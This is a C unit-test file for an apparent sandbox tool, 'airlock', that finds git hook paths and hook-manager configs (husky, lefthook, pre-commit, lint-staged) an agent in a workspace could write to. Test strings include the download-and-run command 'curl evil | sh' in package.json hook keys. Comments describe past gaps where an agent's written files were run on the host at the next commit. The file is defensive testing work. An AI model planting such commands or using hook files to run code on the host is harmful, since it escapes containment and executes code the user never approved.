/* SPDX-License-Identifier: ISC */
/* Copyright (c) 2026 The airlock authors */
/*
 * Unit tests for policy/githooks.c: the hooks directories of git's config
 * (core.hooksPath) that fall inside a workspace, read from real files in
 * a temporary tree: the repository's config, a linked worktree's common
 * directory, $HOME's and $XDG_CONFIG_HOME's, includes; values quoted,
 * relative, absolute, "~/", outside the workspace; the workspace below
 * the repository's top; husky's "_"; config that cannot be read.
 */
#include "config.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <check.h>

#include "policy/githooks.h"

static char tmp[256];
/* Every test's directory is made in this one, which main() makes and
 * removes: a test whose check fails ends in its forked process before its
 * checked teardown runs (Check calls _exit()), and its directory would
 * stay behind in /tmp (78 did after one mutant run). */
static char root[64];

static void
put(const char *rel, const char *text)
{
	char path[512], cmd[600], *slash;
	FILE *fp;

	snprintf(path, sizeof(path), "%s/%s", tmp, rel);
	slash = strrchr(path, '/');
	*slash = '\0';
	snprintf(cmd, sizeof(cmd), "mkdir -p '%s'", path);
	ck_assert_int_eq(system(cmd), 0);
	snprintf(path, sizeof(path), "%s/%s", tmp, rel);
	ck_assert_ptr_nonnull(fp = fopen(path, "w"));
	fputs(text, fp);
	fclose(fp);
}

/* Each of |want| (NULL-terminated) is one of find()'s |out|. */
static void
assert_listed(const char *out, const char *const *want)
{
	char all[2100], item[128];
	size_t k;

	snprintf(all, sizeof(all), ",%s,", out);
	for (k = 0; want[k] != NULL; k++) {
		snprintf(item, sizeof(item), ",%s,", want[k]);
		ck_assert_msg(strstr(all, item) != NULL, "%s missing: got %s",
		    want[k], out);
	}
}

/* tmp/|rel| (a static buffer). */
static const char *
path_in(const char *rel)
{
	static char path[512];

	snprintf(path, sizeof(path), "%s/%s", tmp, rel);
	return path;
}

/* git_hooks_find() for the workspace tmp/|ws|; its directories joined
 * by ',' into |out| ("!" and the error on failure). */
static void
find(const char *ws, char *out, size_t len)
{
	struct git_hooks h;
	char path[512], err[512];
	size_t i;
	int fd;

	snprintf(path, sizeof(path), "%s/%s", tmp, ws);
	ck_assert_int_ne(fd = open(path, O_RDONLY | O_DIRECTORY), -1);
	out[0] = '\0';
	if (git_hooks_find(fd, &h, err, sizeof(err)) != 0) {
		snprintf(out, len, "!%s", err);
		close(fd);
		return;
	}
	close(fd);
	for (i = 0; i < h.n; i++)
		snprintf(out + strlen(out), len - strlen(out), "%s%s",
		    i > 0 ? "," : "", h.dir[i]);
	git_hooks_free(&h);
}

static void
setup(void)
{
	char home[300];

	snprintf(tmp, sizeof(tmp), "%s/t.XXXXXX", root);
	ck_assert_ptr_nonnull(mkdtemp(tmp));
	snprintf(home, sizeof(home), "%s/home", tmp);
	mkdir(home, 0755);
	setenv("HOME", home, 1);
	unsetenv("XDG_CONFIG_HOME");
}

static void
teardown(void)
{
	char cmd[300];

	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", tmp);
	ck_assert_int_eq(system(cmd), 0);
}

START_TEST(test_none)
{
	char out[1024];

	put("ws/.git/config", "[core]\n\tbare = false\n");
	find("ws", out, sizeof(out));
	ck_assert_str_eq(out, "");
}
END_TEST

START_TEST(test_husky)
{
	struct git_hooks h = { 0 };
	char out[1024];

	put("ws/.git/config",
	    "[core]\n\trepositoryformatversion = 0\n"
	    "\thooksPath = .husky/_\n");
	find("ws", out, sizeof(out));
	ck_assert_str_eq(out, ".husky/_,.husky");
	h.dir[0] = ".husky/_";
	h.dir[1] = ".husky";
	h.n = 2;
	ck_assert_int_eq(git_hooks_cover(&h, ".husky/pre-commit"), 1);
	ck_assert_int_eq(git_hooks_cover(&h, ".husky"), 1);
	ck_assert_int_eq(git_hooks_cover(&h, ".husky/_/h"), 1);
	ck_assert_int_eq(git_hooks_cover(&h, ".huskyrc"), 0);
	ck_assert_int_eq(git_hooks_cover(&h, "src/.husky/pre-commit"), 0);
	/* In any case: on a case-insensitive workspace (vfat, exFAT, SMB,
	 * WSL's /mnt/c, ext4 casefold) .HUSKY/_ is the hooks directory. */
	ck_assert_int_eq(git_hooks_cover(&h, ".HUSKY/_/pre-commit"), 1);
	ck_assert_int_eq(git_hooks_cover(&h, ".Husky/pre-push"), 1);
	h.n = 0;
	h.lintstaged = "";
	h.husky_pkg = "package.json";
	ck_assert_int_eq(git_hooks_cover(&h, "src/.LintStagedRC"), 1);
	ck_assert_uint_eq(git_hooks_keys(&h, "web/Package.JSON"),
	    GIT_HOOKS_KEY_LINTSTAGED);
	ck_assert_uint_eq(git_hooks_keys(&h, "PACKAGE.json"),
	    GIT_HOOKS_KEY_LINTSTAGED | GIT_HOOKS_KEY_HUSKY);
	h.lintstaged = h.husky_pkg = NULL;
}
END_TEST

START_TEST(test_value_forms)
{
	char out[1024], cfg[1024];

	/* Quoted, with a comment; the section's name in another case; a
	 * key on the section's line. */
	put("ws/.git/config", "[CORE] hookspath = \"my hooks\" # why\n");
	find("ws", out, sizeof(out));
	ck_assert_str_eq(out, "my hooks");
	/* Lexical: "./a/../b" is "b". */
	put("ws/.git/config", "[core]\nhooksPath=./a/../b/\n");
	find("ws", out, sizeof(out));
	ck_assert_str_eq(out, "b");
	/* Absolute inside; absolute, "~/" and "../" outside: not kept. */
	snprintf(cfg, sizeof(cfg),
	    "[core]\n\thooksPath = %s/ws/tools/hooks\n"
	    "\thooksPath = /etc/hooks\n\thooksPath = ~/hooks\n"
	    "\thooksPath = ../elsewhere\n",
	    tmp);
	put("ws/.git/config", cfg);
	find("ws", out, sizeof(out));
	ck_assert_str_eq(out, "tools/hooks");
	/* Another section's key of the same name is not core's. */
	put("ws/.git/config", "[alias]\n\thooksPath = x\n");
	find("ws", out, sizeof(out));
	ck_assert_str_eq(out, "");
}
END_TEST

START_TEST(test_linked_dir)
{
	char out[1024], path[512], target[512];

	/* .husky a symlink to tools/husky: both are the hooks directory. */
	put("ws/tools/husky/pre-commit", "#!/bin/sh\n");
	snprintf(path, sizeof(path), "%s/ws/.husky", tmp);
	snprintf(target, sizeof(target), "tools/husky");
	ck_assert_int_eq(symlink(target, path), 0);
	put("ws/.git/config", "[core]\n\thooksPath = .husky\n");
	find("ws", out, sizeof(out));
	ck_assert_str_eq(out, ".husky,tools/husky");
}
END_TEST

START_TEST(test_root_as_hooks)
{
	struct git_hooks h = { 0 };
	char out[1024];

	put("ws/.git/config", "[core]\n\thooksPath = .\n");
	find("ws", out, sizeof(out));
	ck_assert_str_eq(out, "");
	h.dir[0] = "";
	h.n = 1;
	ck_assert_int_eq(git_hooks_cover(&h, "pre-commit"), 1);
	ck_assert_int_eq(git_hooks_cover(&h, "post-checkout"), 1);
	ck_assert_int_eq(git_hooks_cover(&h, "README"), 0);
	ck_assert_int_eq(git_hooks_cover(&h, "src/pre-commit"), 0);
}
END_TEST

START_TEST(test_root_as_hooks_found)
{
	struct git_hooks h;
	char path[512], err[256];
	int fd;

	put("ws/.git/config", "[core]\n\thooksPath = .\n");
	snprintf(path, sizeof(path), "%s/ws", tmp);
	ck_assert_int_ne(fd = open(path, O_RDONLY | O_DIRECTORY), -1);
	ck_assert_int_eq(git_hooks_find(fd, &h, err, sizeof(err)), 0);
	close(fd);
	ck_assert_uint_eq(h.n, 1);
	ck_assert_int_eq(git_hooks_cover(&h, "pre-push"), 1);
	ck_assert_int_eq(git_hooks_cover(&h, "main.c"), 0);
	git_hooks_free(&h);
}
END_TEST

START_TEST(test_workspace_below_top)
{
	char out[1024];

	/* The workspace is repo/sub: the hooks in repo/sub/hooks are in
	 * it (as "hooks"); repo/.husky is not. */
	put("repo/.git/config",
	    "[core]\n\thooksPath = sub/hooks\n"
	    "\thooksPath = .husky\n");
	put("repo/sub/x", "x\n");
	find("repo/sub", out, sizeof(out));
	ck_assert_str_eq(out, "hooks");
}
END_TEST

START_TEST(test_worktree_and_global)
{
	char out[1024], text[512];

	/* A linked worktree: .git is a gitdir: file, its config is the
	 * common directory's; the person's ~/.gitconfig and the XDG one. */
	put("main/.git/config", "[core]\n\thooksPath = wt-hooks\n");
	put("main/.git/worktrees/wt/commondir", "../..\n");
	snprintf(
	    text, sizeof(text), "gitdir: %s/main/.git/worktrees/wt\n", tmp);
	put("wt/.git", text);
	put("home/.gitconfig", "[core]\n\thooksPath = .githooks\n");
	find("wt", out, sizeof(out));
	ck_assert_str_eq(out, ".githooks,wt-hooks");
	snprintf(text, sizeof(text), "%s/xdg", tmp);
	setenv("XDG_CONFIG_HOME", text, 1);
	put("xdg/git/config", "[core]\n\thooksPath = xdg-hooks\n");
	find("wt", out, sizeof(out));
	ck_assert_str_eq(out, "xdg-hooks,.githooks,wt-hooks");
}
END_TEST

START_TEST(test_outer_configs)
{
	char out[1024], text[512];

	put("ws/.git/config", "[core]\n\tbare = false\n");
	/* ~/.gitconfig a dotfiles checkout's file, through a symlink: the
	 * file itself is git's config wherever it runs. */
	put("ws/dotfiles/gitconfig", "[user]\n\tname = me\n");
	snprintf(text, sizeof(text), "%s/ws/dotfiles/gitconfig", tmp);
	snprintf(out, sizeof(out), "%s/home/.gitconfig", tmp);
	ck_assert_int_eq(symlink(text, out), 0);
	find("ws", out, sizeof(out));
	ck_assert_str_eq(out, "dotfiles/gitconfig");
	/* The workspace is $HOME (or holds it): ~/.gitconfig and the XDG
	 * config, present or not. */
	find(".", out, sizeof(out));
	ck_assert_str_eq(
	    out, "home/.config/git/config,home/.gitconfig,ws/dotfiles/gitconfig");
	/* $GIT_CONFIG_GLOBAL names a file inside, whose hooksPath counts;
	 * /dev/null is no config; the environment's own pairs count. */
	put("ws/team/global.cfg", "[core]\n\thooksPath = g-hooks\n");
	snprintf(text, sizeof(text), "%s/ws/team/global.cfg", tmp);
	setenv("GIT_CONFIG_GLOBAL", text, 1);
	find("ws", out, sizeof(out));
	ck_assert_str_eq(out, "dotfiles/gitconfig,team/global.cfg,g-hooks");
	setenv("GIT_CONFIG_GLOBAL", "/dev/null", 1);
	setenv("GIT_CONFIG_COUNT", "2", 1);
	setenv("GIT_CONFIG_KEY_0", "core.hookspath", 1);
	setenv("GIT_CONFIG_VALUE_0", "env-hooks", 1);
	setenv("GIT_CONFIG_KEY_1", "includeIf.onbranch:x.path", 1);
	setenv("GIT_CONFIG_VALUE_1", text, 1);
	find("ws", out, sizeof(out));
	ck_assert_str_eq(
	    out, "dotfiles/gitconfig,env-hooks,team/global.cfg,g-hooks");
	unsetenv("GIT_CONFIG_GLOBAL");
	unsetenv("GIT_CONFIG_COUNT");
}
END_TEST

START_TEST(test_includes)
{
	char out[1024];

	/* Every include is followed, whatever its condition. */
	put("ws/.git/config",
	    "[include]\n\tpath = extra.cfg\n"
	    "[includeIf \"onbranch:nope\"]\n\tpath = ~/cond.cfg\n");
	put("ws/.git/extra.cfg", "[core]\n\thooksPath = inc-hooks\n");
	put("home/cond.cfg", "[core]\n\thooksPath = cond-hooks\n");
	find("ws", out, sizeof(out));
	ck_assert_str_eq(out, ".git/extra.cfg,inc-hooks,cond-hooks");
	/* An included file inside the workspace is git's config too. */
	put("ws/.git/config", "[include]\n\tpath = ../team.gitconfig\n");
	put("ws/team.gitconfig", "[core]\n\tfsmonitor = x\n");
	find("ws", out, sizeof(out));
	ck_assert_str_eq(out, "team.gitconfig");
	/* A config that includes itself: past the depth, refused. */
	put("ws/.git/config", "[include]\n\tpath = config\n");
	find("ws", out, sizeof(out));
	ck_assert_msg(
	    strstr(out, "!git's config includes nest") == out, "got %s", out);
}
END_TEST

START_TEST(test_hook_managers)
{
	char out[2048];

	/* pre-commit's hook runs .pre-commit-config.yaml's entries. */
	put("ws/.git/config", "[core]\n\tbare = false\n");
	put("ws/.git/hooks/pre-commit",
	    "#!/usr/bin/env bash\n"
	    "# File generated by pre-commit: https://pre-commit.com\n"
	    "ARGS=(hook-impl --config=.pre-commit-config.yaml "
	    "--hook-type=pre-commit)\n");
	find("ws", out, sizeof(out));
	ck_assert_str_eq(out, ".pre-commit-config.yaml");
	/* Its --config= elsewhere, from a hooks directory of the config. */
	put("ws/.git/hooks/pre-commit", "#!/bin/sh\n");
	put("ws/.git/config",
	    "[core]\n\thooksPath = /tmp/nowhere-hooks\n"
	    "\thooksPath = tools/hooks\n");
	put("ws/tools/hooks/pre-push",
	    "#!/usr/bin/env bash\n"
	    "# File generated by pre-commit: https://pre-commit.com\n"
	    "ARGS=(hook-impl --config=ci/pc.yaml --hook-type=pre-push)\n");
	find("ws", out, sizeof(out));
	ck_assert_str_eq(out, "tools/hooks,ci/pc.yaml");
	/* lefthook's runs lefthook.yml's and its kin's. */
	put("ws/.git/config", "[core]\n");
	put("ws/.git/hooks/post-checkout",
	    "#!/bin/sh\ncall_lefthook run "
	    "\"post-checkout\" \"$@\"\n");
	find("ws", out, sizeof(out));
	ck_assert_msg(strncmp(out, "lefthook.yml,lefthook.yaml,", 27) == 0,
	    "got %s", out);
	/* Every name lefthook reads (lefthook.dev/configuration): each
	 * format, the -local config it merges, .config/, and the default
	 * scripts directories; these were missed once. */
	{
		static const char *const want[] = { "lefthook-local.json",
			"lefthook-local.toml", ".lefthook-local.jsonc",
			"lefthook.jsonc", ".config/lefthook.toml",
			".config/lefthook-local.yml",
			".config/lefthook-local.jsonc", ".lefthook",
			".lefthook-local", NULL };

		assert_listed(out, want);
	}
	/* ...and what its configs extend with and take scripts from: a
	 * glob's directory above the pattern; outside the workspace, not. */
	put("ws/lefthook.yml", "extends:\n  - ci/shared-lefthook.yml\n"
	    "  - projects/*/lh.yml\n  - /elsewhere/lh.yml\n"
	    "source_dir: tools/lh/\n");
	put("ws/.config/lefthook-local.toml",
	    "source_dir_local = \"mine/lh\"\n");
	find("ws", out, sizeof(out));
	{
		static const char *const want[] = { "ci/shared-lefthook.yml",
			"projects", "tools/lh", "mine/lh", NULL };

		assert_listed(out, want);
		ck_assert_msg(strstr(out, "elsewhere") == NULL, "got %s", out);
	}
	/* lefthook merges what extended configs extend with too (relative
	 * to the top), those a glob matches included; a loop refuses. */
	put("ws/lefthook.yml", "extends: [ci/a.yml, 'projects/*/lh.yml']\n");
	put("ws/ci/a.yml", "extends: ci/b.toml\nsource_dir: sa\n");
	put("ws/ci/b.toml", "extends = [\"ci/c.json\"]\n");
	put("ws/projects/p1/lh.yml", "extends: [deep/d.yml]\n");
	find("ws", out, sizeof(out));
	{
		static const char *const want[] = { "ci/a.yml", "ci/b.toml",
			"ci/c.json", "sa", "projects", "deep/d.yml", NULL };

		assert_listed(out, want);
	}
	put("ws/ci/c.json", "{\"extends\": [\"ci/a.yml\"]}\n");
	find("ws", out, sizeof(out));
	ck_assert_msg(strstr(out, "!lefthook's extends nest more than 10 "
	    "files deep") == out, "got %s", out);
	ck_assert_int_eq(unlink(path_in("ws/ci/c.json")), 0);
	/* Scripts at the top: beneath the directories named like hooks. */
	put("ws/lefthook.yml", "source_dir: ./\n");
	find("ws", out, sizeof(out));
	{
		static const char *const want[] = { "pre-commit", "pre-push",
			"post-checkout", NULL };

		assert_listed(out, want);
	}
	/* A pattern at the top cannot be covered by a directory; a config
	 * that cannot be read says which: both refused. */
	put("ws/lefthook.yml", "extends: ['*.yml']\n");
	find("ws", out, sizeof(out));
	ck_assert_msg(strstr(out, "!lefthook's extends \"*.yml\"") == out,
	    "got %s", out);
	/* Read once however many of its hooks are installed; a bound on
	 * what they name. */
	put("ws/.git/hooks/pre-push", "#!/bin/sh\ncall_lefthook run "
	    "\"pre-push\" \"$@\"\n");
	{
		char big[256 * 8 + 64];
		int k;

		snprintf(big, sizeof(big), "extends:\n");
		for (k = 0; k < 200; k++)
			snprintf(big + strlen(big), sizeof(big) - strlen(big),
			    "- a.yml\n");
		put("ws/lefthook.yml", big);
		find("ws", out, sizeof(out));
		ck_assert_msg(out[0] != '!', "got %s", out);
		for (; k < 257; k++)
			snprintf(big + strlen(big), sizeof(big) - strlen(big),
			    "- a.yml\n");
		put("ws/lefthook.yml", big);
		find("ws", out, sizeof(out));
		ck_assert_str_eq(out,
		    "!lefthook's configs name more than 256 paths");
	}
	ck_assert_int_eq(unlink(path_in("ws/.git/hooks/pre-push")), 0);
	put("ws/lefthook.yml", "extends: [a.yml\n");
	find("ws", out, sizeof(out));
	ck_assert_msg(strncmp(out, "!cannot read lefthook's config ", 31) == 0
	    && strstr(out, "/ws/lefthook.yml: ") != NULL, "got %s", out);
	ck_assert_int_eq(unlink(path_in("ws/lefthook.yml")), 0);
	ck_assert_int_eq(unlink(path_in("ws/.config/lefthook-local.toml")),
	    0);
	/* husky (v9): .husky/_ runs .husky/pre-commit, which runs
	 * lint-staged, which runs the commands of .lintstagedrc. */
	put("ws/.git/hooks/post-checkout", "#!/bin/sh\n");
	put("ws/.git/config", "[core]\n\thooksPath = .husky/_\n");
	put("ws/.husky/_/pre-commit", "#!/bin/sh\n. \"$(dirname \"$0\")/h\"\n");
	put("ws/.husky/pre-commit", "npx lint-staged\n");
	find("ws", out, sizeof(out));
	ck_assert_msg(strncmp(out, ".husky/_,.husky,package.yaml,", 29) == 0,
	    "got %s", out);
	ck_assert_msg(strstr(out, ",.lintstagedrc.cts,") != NULL,
	    "got %s", out);
	ck_assert_msg(strstr(out, ",lint-staged.config.js,") != NULL,
	    "got %s", out);
	/* husky v4's hooks read .huskyrc. */
	put("ws/.git/config", "[core]\n");
	put("ws/.git/hooks/pre-commit",
	    "#!/bin/sh\n# husky\n. \"$(dirname \"$0\")/husky.sh\"\n");
	find("ws", out, sizeof(out));
	ck_assert_msg(strncmp(out, ".huskyrc,.huskyrc.json,", 23) == 0,
	    "got %s", out);
}
END_TEST

/* lefthook's "rc": a file its hooks source (". RC") before they run
 * it, at the working tree's top; and the config $LEFTHOOK_CONFIG names
 * instead of the main one.  Both were missed once: the agent wrote the
 * file, and the next commit ran it on the host. */
START_TEST(test_lefthook_rc)
{
	char out[2048], cfg[300];

	put("ws/.git/config", "[core]\n");
	put("ws/.git/hooks/pre-commit",
	    "#!/bin/sh\ncall_lefthook run \"pre-commit\" \"$@\"\n");
	put("ws/lefthook.yml", "rc: .lefthookrc\n");
	put("ws/.config/lefthook-local.toml", "rc = \"mine/rc.sh\"\n");
	find("ws", out, sizeof(out));
	{
		static const char *const want[] = { ".lefthookrc",
			"mine/rc.sh", NULL };

		assert_listed(out, want);
	}
	ck_assert_int_eq(unlink(path_in("ws/.config/lefthook-local.toml")),
	    0);
	/* lefthook's own example, in quotes for the hook's shell. */
	snprintf(cfg, sizeof(cfg), "%s/ws/cfg", tmp);
	setenv("XDG_CONFIG_HOME", cfg, 1);
	put("ws/lefthook.yml",
	    "rc: '\"${XDG_CONFIG_HOME:-$HOME/.config}/lefthookrc\"'\n");
	find("ws", out, sizeof(out));
	{
		static const char *const want[] = { "cfg/lefthookrc", NULL };

		assert_listed(out, want);
	}
	unsetenv("XDG_CONFIG_HOME");
	/* $HOME outside the workspace: nothing to keep, no refusal; in
	 * single quotes the text is the file's name. */
	put("ws/lefthook.yml", "rc: ~/.lefthookrc\n");
	find("ws", out, sizeof(out));
	ck_assert_msg(out[0] != '!' && strstr(out, "lefthookrc") == NULL,
	    "got %s", out);
	put("ws/lefthook.yml", "rc: \"'tools/$x'\"\n");
	find("ws", out, sizeof(out));
	{
		static const char *const want[] = { "tools/$x", NULL };

		assert_listed(out, want);
	}
	/* What the hook would source cannot be told: refused. */
	put("ws/lefthook.yml", "rc: \"$RCDIR/rc.sh\"\n");
	find("ws", out, sizeof(out));
	ck_assert_msg(strstr(out, "!lefthook's rc \"$RCDIR/rc.sh\" is a file "
	    "airlock cannot tell") == out, "got %s", out);
	put("ws/lefthook.yml", "rc: '\"$(cat where)\"'\n");
	find("ws", out, sizeof(out));
	ck_assert_msg(out[0] == '!', "got %s", out);
	put("ws/lefthook.yml", "rc: 'rc/*.sh'\n");
	find("ws", out, sizeof(out));
	ck_assert_msg(out[0] == '!', "got %s", out);
	/* $LEFTHOOK_CONFIG: kept, and what it names read. */
	put("ws/lefthook.yml", "\n");
	put("ws/ci/lh.yml", "rc: ci/rc\nextends: [ci/more.yml]\n");
	setenv("LEFTHOOK_CONFIG", "ci/lh.yml", 1);
	find("ws", out, sizeof(out));
	unsetenv("LEFTHOOK_CONFIG");
	{
		static const char *const want[] = { "ci/lh.yml", "ci/rc",
			"ci/more.yml", NULL };

		assert_listed(out, want);
	}
}
END_TEST

/* husky's own scripts source a file from the person's home before the
 * hook's: husky 9's ~/.config/husky/init.sh (or $XDG_CONFIG_HOME's),
 * husky 4 to 8's ~/.huskyrc.  With the workspace $HOME, both are the
 * git rule's; they were once written through. */
START_TEST(test_husky_init)
{
	char out[1024], xdg[300];

	put("home/.git/config", "[core]\n\thooksPath = .husky/_\n");
	put("home/.husky/_/pre-commit", "#!/bin/sh\n. \"$(dirname \"$0\")/h\"\n");
	find("home", out, sizeof(out));
	{
		static const char *const want[] = { ".husky/_", ".husky",
			".config/husky/init.sh", ".huskyrc", NULL };

		assert_listed(out, want);
	}
	snprintf(xdg, sizeof(xdg), "%s/home/xdg", tmp);
	setenv("XDG_CONFIG_HOME", xdg, 1);
	find("home", out, sizeof(out));
	unsetenv("XDG_CONFIG_HOME");
	{
		static const char *const want[] = { "xdg/husky/init.sh",
			".huskyrc", NULL };

		assert_listed(out, want);
	}
	/* husky 8's hooks in .git/hooks ("# husky"): ~/.huskyrc. */
	put("home/.git/config", "[core]\n");
	put("home/.git/hooks/pre-commit",
	    "#!/bin/sh\n# husky\n. \"$(dirname \"$0\")/husky.sh\"\n");
	find("home", out, sizeof(out));
	{
		static const char *const want[] = { ".huskyrc", NULL };

		assert_listed(out, want);
	}
	/* A workspace that is not $HOME keeps none of them. */
	put("ws/.git/config", "[core]\n\thooksPath = .husky/_\n");
	find("ws", out, sizeof(out));
	ck_assert_msg(strstr(out, "husky/init.sh") == NULL &&
	    strstr(out, ".huskyrc,") == NULL, "got %s", out);
}
END_TEST

/* pre-commit's hooks run the code of the hook repositories it cloned
 * into $PRE_COMMIT_HOME, ${XDG_CACHE_HOME:-~/.cache}/pre-commit: the
 * git rule's where the workspace holds it. */
START_TEST(test_precommit_home)
{
	char out[1024], pc[300];

	put("home/.git/config", "[core]\n");
	put("home/.git/hooks/pre-commit",
	    "#!/usr/bin/env bash\n"
	    "# File generated by pre-commit: https://pre-commit.com\n");
	unsetenv("PRE_COMMIT_HOME");
	find("home", out, sizeof(out));
	ck_assert_msg(strstr(out, ",.pre-commit-config.yaml,.cache/pre-commit") !=
	    NULL, "got %s", out);
	snprintf(pc, sizeof(pc), "%s/home/pc", tmp);
	setenv("PRE_COMMIT_HOME", pc, 1);
	find("home", out, sizeof(out));
	unsetenv("PRE_COMMIT_HOME");
	ck_assert_msg(strstr(out, ",.pre-commit-config.yaml,pc") != NULL &&
	    strstr(out, ".cache") == NULL, "got %s", out);
}
END_TEST

/* git_hooks_find() for tmp/|ws| kept in |h|. */
static void
find_keep(const char *ws, struct git_hooks *h)
{
	char path[512], err[512];
	int fd;

	snprintf(path, sizeof(path), "%s/%s", tmp, ws);
	ck_assert_int_ne(fd = open(path, O_RDONLY | O_DIRECTORY), -1);
	ck_assert_msg(git_hooks_find(fd, h, err, sizeof(err)) == 0, "%s", err);
	close(fd);
}

/* git_hooks_keys_changed() of two strings (NULL: no file). */
static int
changed(unsigned keys, const char *before, const char *after)
{
	return git_hooks_keys_changed(keys, before,
	    before != NULL ? strlen(before) : 0, after,
	    after != NULL ? strlen(after) : 0);
}

/* lint-staged (12.2.1 and later) takes the config nearest each staged
 * file, at any depth, and a package.json's "lint-staged" key; husky v4
 * the top package.json's "husky" key. */
START_TEST(test_manager_keys)
{
	const unsigned LS = GIT_HOOKS_KEY_LINTSTAGED, HU = GIT_HOOKS_KEY_HUSKY;
	struct git_hooks h;

	put("ws/.git/config", "[core]\n");
	put("ws/.git/hooks/pre-commit", "#!/bin/sh\nexec npx lint-staged\n");
	find_keep("ws", &h);
	ck_assert_str_eq(h.lintstaged, "");
	ck_assert_ptr_null(h.husky_pkg);
	ck_assert_int_eq(git_hooks_cover(&h, "packages/a/.lintstagedrc.json"), 1);
	ck_assert_int_eq(git_hooks_cover(&h, "a/b/lint-staged.config.ts"), 1);
	ck_assert_int_eq(git_hooks_cover(&h, "a/package.yaml"), 1);
	ck_assert_int_eq(git_hooks_cover(&h, "a/lintstagedrc.json"), 0);
	ck_assert_int_eq(git_hooks_cover(&h, "a/package.json"), 0);
	ck_assert_uint_eq(git_hooks_keys(&h, "package.json"), LS);
	ck_assert_uint_eq(git_hooks_keys(&h, "packages/a/package.json"), LS);
	ck_assert_uint_eq(git_hooks_keys(&h, "packages/a/package.json5"), 0);
	/* npm's packages (git ignores node_modules; lint-staged too). */
	ck_assert_uint_eq(git_hooks_keys(&h, "node_modules/x/package.json"), 0);
	ck_assert_uint_eq(git_hooks_keys(&h, "a/node_modules/@s/x/package.json"),
	    0);
	ck_assert_uint_eq(git_hooks_keys(&h, "my_node_modules/package.json"), LS);
	ck_assert_uint_eq(git_hooks_keys(&h, "node_modules.d/package.json"), LS);
	git_hooks_free(&h);

	/* husky v4: its key at the top only. */
	put("ws/.git/hooks/pre-commit", "#!/bin/sh\n# husky\n");
	find_keep("ws", &h);
	ck_assert_ptr_null(h.lintstaged);
	ck_assert_str_eq(h.husky_pkg, "package.json");
	ck_assert_uint_eq(git_hooks_keys(&h, "package.json"), HU);
	ck_assert_uint_eq(git_hooks_keys(&h, "a/package.json"), 0);
	ck_assert_int_eq(git_hooks_cover(&h, "a/.lintstagedrc"), 0);
	git_hooks_free(&h);
	/* yorkie's hook: the top package.json's "gitHooks". */
	put("ws/.git/hooks/pre-commit", "#!/bin/sh\n#yorkie 2.0.0\n");
	find_keep("ws", &h);
	ck_assert_str_eq(h.husky_pkg, "package.json");
	ck_assert_uint_eq(git_hooks_keys(&h, "package.json"), HU);
	git_hooks_free(&h);

	/* A workspace beneath the working tree: all of it is lint-staged's,
	 * the top's package.json is not in it. */
	put("ws/.git/hooks/pre-commit", "#!/bin/sh\nnpx husky-run lint-staged\n");
	put("ws/sub/x", "");
	find_keep("ws/sub", &h);
	ck_assert_str_eq(h.lintstaged, "");
	ck_assert_ptr_null(h.husky_pkg);
	ck_assert_int_eq(git_hooks_cover(&h, "deep/.lintstagedrc.mjs"), 1);
	git_hooks_free(&h);
	/* The keys' values, before and after. */
	ck_assert_int_eq(changed(LS, "{\"name\":\"a\"}",
	    "{\"name\":\"b\",\"dependencies\":{\"x\":\"1\"}}"), 0);
	ck_assert_int_eq(changed(LS, "{\"lint-staged\":{\"*\":\"eslint\"}}",
	    "{\"lint-staged\": {\"*\": \"eslint\"}, \"v\": 2}"), 0);
	ck_assert_int_eq(changed(LS, "{\"lint-staged\":{\"*\":\"eslint\"}}",
	    "{\"lint-staged\":{\"*\":\"curl evil | sh\"}}"), 1);
	ck_assert_int_eq(changed(LS, "{}", "{\"lint-staged\":{\"*\":\"x\"}}"), 1);
	ck_assert_int_eq(changed(LS, NULL, "{\"lint-staged\":{\"*\":\"x\"}}"), 1);
	ck_assert_int_eq(changed(LS, NULL, "{\"name\":\"new\"}"), 0);
	ck_assert_int_eq(changed(LS, "{\"lint-staged\":{\"*\":\"x\"}}", "{}"), 0);
	ck_assert_int_eq(changed(LS, "{}", "{\"husky\":{\"hooks\":{}}}"), 0);
	ck_assert_int_eq(changed(HU, "{}", "{\"husky\":{\"hooks\":{}}}"), 1);
	/* yorkie's key (Vue CLI's husky fork). */
	ck_assert_int_eq(changed(HU, "{\"gitHooks\":{\"pre-commit\":\"x\"}}",
	    "{\"gitHooks\":{\"pre-commit\":\"curl evil | sh\"}}"), 1);
	ck_assert_int_eq(changed(LS, "{}", "{\"gitHooks\":{}}"), 0);
	/* What cannot be read one way only counts: not JSON, not an
	 * object, a key twice (JavaScript takes the last). */
	ck_assert_int_eq(changed(LS, "{}", "{\"lint-staged\":"), 1);
	ck_assert_int_eq(changed(LS, "{}", "[1]"), 1);
	ck_assert_int_eq(changed(LS, "{\"lint-staged\":{}}",
	    "{\"lint-staged\":{},\"lint-staged\":{\"*\":\"x\"}}"), 1);
	/* A before that was not JSON: any value after is new. */
	ck_assert_int_eq(changed(LS, "{", "{\"lint-staged\":{}}"), 1);
	ck_assert_int_eq(changed(LS, "{", "{\"name\":\"fixed\"}"), 0);
}
END_TEST

START_TEST(test_unreadable)
{
	char out[1024], path[512];

	/* A config that exists but cannot be read: nothing can be told.
	 * One that cannot be opened (a symlink to itself)... */
	snprintf(path, sizeof(path), "%s/home/.gitconfig", tmp);
	ck_assert_int_eq(symlink(path, path), 0);
	put("ws/.git/config", "[core]\n");
	find("ws", out, sizeof(out));
	ck_assert_msg(
	    strstr(out, "!cannot read git's config") == out, "got %s", out);
	/* ...and one that opens but cannot be read (a directory). */
	ck_assert_int_eq(unlink(path), 0);
	ck_assert_int_eq(mkdir(path, 0755), 0);
	find("ws", out, sizeof(out));
	ck_assert_msg(
	    strstr(out, "!cannot read git's config") == out, "got %s", out);
}
END_TEST

START_TEST(test_too_many)
{
	char cfg[4096] = "[core]\n";
	char out[4096];
	int i;

	for (i = 0; i < GIT_HOOKS_MAX + 1; i++)
		snprintf(cfg + strlen(cfg), sizeof(cfg) - strlen(cfg),
		    "\thooksPath = h%d\n", i);
	put("ws/.git/config", cfg);
	find("ws", out, sizeof(out));
	ck_assert_msg(strstr(out, "!more than") == out, "got %s", out);
}
END_TEST

static Suite *
suite(void)
{
	Suite *s = suite_create("githooks");
	TCase *tc = tcase_create("find");

	/* Files of 8 MiB and trees of them: past Check's 4 s on slow VMs. */
	tcase_set_timeout(tc, 30);
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, test_none);
	tcase_add_test(tc, test_husky);
	tcase_add_test(tc, test_value_forms);
	tcase_add_test(tc, test_linked_dir);
